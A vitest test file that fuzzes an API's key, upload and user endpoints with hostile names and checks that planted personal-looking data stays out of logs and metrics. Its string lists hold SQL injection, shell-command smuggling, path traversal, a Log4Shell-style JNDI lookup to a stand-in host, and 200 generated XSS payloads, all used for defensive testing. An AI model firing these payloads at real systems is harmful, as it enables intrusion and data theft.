import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Client } from '../../src/server/client.ts';
import * as keys from '../../src/server/contract/keys.ts';
import * as uploads from '../../src/server/contract/uploads.ts';
import * as users from '../../src/server/contract/users.ts';
import { seeded } from '../../src/model/random.ts';
import { addPerson, addTenant, apiServer } from '../support/api-server.ts';
import type { ApiServer } from '../support/api-server.ts';

const seed = 20_260_303;
let api: ApiServer;
let call: Client;

beforeAll(async () => {
  api = await apiServer();
  await addTenant(api, 'ours', 'regulator');
  call = api.client((await addPerson(api, 'all', 'ours', ['admin', 'handler'])).headers);
});
afterAll(async () => await api.end());

/** Texts that have broken programs before: scripts, commands, formats, and what Unicode allows. */
const naughty: readonly string[] = [
  'undefined',
  'null',
  'NaN',
  'true',
  '0',
  '-0',
  '1e309',
  '0x0',
  '１２３',
  '½',
  '٣',
  '\\',
  '\\u0000',
  '\u0000',
  'a\u0000b',
  'a\nb',
  'a\rb',
  'a\tb',
  '\u0007',
  '\u001b[31m',
  '\u0085',
  '\u007f',

  '\u2028',
  'a\u2029b',
  '\ufeffa',
  'a\u200bb',
  '\u202eabc',
  '\u2066a\u2069',
  '\u00ad',
  '\ufff9',

  '\ud800',
  'a\udc00',
  '\udc00\ud800',
  '\uffff',
  '\u{10ffff}',
  '\u{e0001}a',
  '𠜎𠜱',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮',
  'ﬀ',
  'İ',
  'ß',
  'ǅ',
  'é',
  'e\u0301',
  '㍿',
  '﷽',
  '張三',
  '🀄',
  '　',
  ' a ',
  '',

  "' OR 1=1 --",
  "'; DROP TABLE app_user; --",
  '" OR ""="',
  '$$;',
  '%',
  '_',
  '\\x27',
  '{{7*7}}',
  '${7*7}',

  '<%= 7 %>',
  '#{7}',
  '{0}',
  '%s%n%x',
  '../../etc/passwd',
  '..\\..\\x',
  'file:///etc/passwd',
  'CON',
  'nul',

  '`id`',
  '$(id)',
  '; id',
  '| id',
  '&& id',
  '() { :; }; id',
  '=1+1',
  '+1',
  '-1',
  '@a',
  '\t=1',
  '＝1',

  '${jndi:ldap://evil.test/a}',
  '__proto__',
  'constructor',
  'toString',
  '{"a":1}',
  '[]',
  '<!--',
  ']]>',

  '<?xml version="1.0"?>',
  '<!DOCTYPE a [<!ENTITY b "c">]>',
  '&b;',
  '&lt;',
  '%00',
  '%2e%2e%2f',
  '\\r\\n',

  'a'.repeat(200),
  'a'.repeat(201),
  '长'.repeat(200),
  '👍'.repeat(100),
  '👍'.repeat(101),
  'é'.repeat(201),
];

const tags = ['script', 'img', 'svg', 'iframe', 'body', 'a', 'math', 'video', 'details', 'style'];
const handlers = ['onerror', 'onload', 'onclick', 'ontoggle', 'onfocus'];

/** 200 payloads: every tag with every handler, quoted in four ways. */
const scripts = tags.flatMap((tag) =>
  handlers.flatMap((on) => [
    `<${tag} ${on}=alert(1)>`,
    `"><${tag} src=x ${on}="alert(1)">`,
    `'><${tag.toUpperCase()}/${on}='alert(1)'//`,
    `javascript:/*--></${tag}>*/${on}=alert(1)`,
  ]),
);

/** How one line that people read is taken by the contract: told apart from the program by hand. */
function isTaken(text: string): boolean {
  const line = text.trim();
  const control = [...line].some((char) => {
    const point = char.codePointAt(0) ?? 0;
    return point < 0x20 || (point >= 0x7f && point < 0xa0) || point === 0x2028 || point === 0x2029;
  });
  return line.length > 0 && [...line].length <= 200 && !control && line.isWellFormed();
}

it('naughty texts and 200 scripts come back as they were, or are refused', async () => {
  expect(scripts).toHaveLength(200);
  const wrong: string[] = [];
  for (const text of [...naughty, ...scripts]) {
    const shown = JSON.stringify(text).slice(0, 80);
    const about = { scopes: ['read' as const], roles: ['handler' as const], days: 1 };
    const key = await call(keys.keysCreate, { body: { name: text, ...about } });
    if (key.ok !== isTaken(text)) wrong.push(`key ${shown}: ${key.status}`);
    if (key.ok && key.body.key.name !== text.trim())
      wrong.push(`key ${shown}: ${key.body.key.name}`);
    if (!key.ok && key.status !== 400) wrong.push(`key ${shown}: ${key.status}`);
    const file = await call(uploads.uploadsCreate, { body: { name: text, size_bytes: 1 } });
    if (!file.ok && file.status !== 400) wrong.push(`file ${shown}: ${file.status}`);
    if (file.ok && file.body.name !== text) wrong.push(`file ${shown}: ${file.body.name}`);
  }
  const list = await call(keys.keysList, {});
  const names = list.ok ? list.body.items.map(({ name }) => name) : [];
  const taken = [...naughty, ...scripts].filter(isTaken).map((text) => text.trim());
  expect(wrong).toEqual([]);
  expect(names.toSorted()).toEqual(taken.toSorted());
});

it(`10,000 planted numbers and names reach neither log nor figures (seed ${seed})`, async () => {
  const random = seeded(seed);
  const digits = (count: number): string =>
    Array.from({ length: count }, () => random.below(10)).join('');
  const planted: string[] = [];
  for (let i = 0; i < 625; i += 1) {
    const four = [
      `139${digits(8)}`,
      `赵${digits(6)}`,
      `1101011990${digits(8)}`,
      `p${digits(9)}@x.test`,
    ];
    const sixteen = [0, 1, 2, 3].flatMap((n) => four.map((text) => `${text}${n}`));
    planted.push(...sixteen);
    const [name = '', title = '', login = '', ...rest] = sixteen;
    const answers = [
      call(users.usersList, { query: { cursor: rest.slice(0, 4).join('') } }),
      call(users.usersRead, { params: { user_id: rest.slice(4, 8).join(' ') } }),
      call(uploads.uploadsCreate, { body: { name: `${name}/${title}`, size_bytes: 1 } }),
      call(users.usersCreate, { body: { name: title, login, roles: [] } }),
      fetch(new URL(`/${encodeURIComponent(rest.slice(8).join('/'))}`, api.url), {
        headers: { 'user-agent': encodeURIComponent(name), 'x-forwarded-for': login },
      }),
    ];
    expect((await Promise.all(answers)).every(({ status }) => status < 500)).toBe(true);
  }
  expect(planted).toHaveLength(10_000);
  const figures = await (await fetch(new URL('/metrics', api.url))).text();
  const kept = api.log() + decodeURIComponent(api.log().replaceAll('%', '%25')) + figures;
  expect(planted.filter((text) => kept.includes(text))).toEqual([]);
  expect(kept).toContain('"route":"users.read"');
});
